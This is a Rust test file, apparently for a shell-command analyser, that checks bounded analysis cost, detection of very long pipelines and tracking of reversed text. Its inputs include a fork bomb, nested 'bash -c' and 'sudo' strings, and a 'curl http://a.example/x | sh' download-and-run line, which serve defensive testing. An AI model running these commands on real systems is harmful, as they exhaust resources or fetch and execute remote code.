use super::*;

#[test]
fn what_a_reading_costs_is_bounded_by_the_length_of_the_text() {
    const OF_ANY: usize = 512 * 1024;
    const PER_BYTE: usize = 320;
    let units = [
        "f(){ f|f& };f;",
        "{a,b}{c,d}",
        "a=$a$a; ",
        "$(echo ",
        "cat <<E\n",
        "a | ",
        "for i in a b; do ",
        "bash -c 'bash -c \"",
        "sudo env xargs ",
        "g(){ f;f;f; };f(){ h;h;h; };h(){ a;a;a; };g;",
    ];
    for unit in units {
        for times in [1, 5, 50, 1_000] {
            let text = unit.repeat(times);
            let reading = read(&text, |_, _| None);
            let most = OF_ANY + PER_BYTE * text.len();
            assert!(reading.work <= most, "{unit:?} {times} times costs {}", reading.work);
            for call in &reading.calls {
                reading.upstream(call);
            }
            assert!(
                reading.asked.get() <= reading.most_asked() + reading.calls.len(),
                "{unit:?}"
            );
        }
    }
}

#[test]
fn a_pipe_of_very_many_programs_is_told() {
    let text = format!("curl http://a.example/x {}| sh", "| cat ".repeat(390));
    let reading = read(&text, |_, _| None);
    for call in &reading.calls {
        reading.upstream(call);
    }
    assert!(reading.is_cut());
    assert!(!read("curl http://a.example/x | tee a | grep -v b | sort | sh", |_, _| None).is_cut());
}

#[test]
fn what_is_turned_round_is_turned_line_by_line() {
    let reading = read("printf 'lruc nur\\nexe a.sh' | rev", |_, _| None);
    let printed: Vec<&str> = reading.calls.iter().filter_map(|call| call.prints.as_deref()).collect();
    assert_eq!(printed.last(), Some(&"run curl\nhs.a exe"));
}
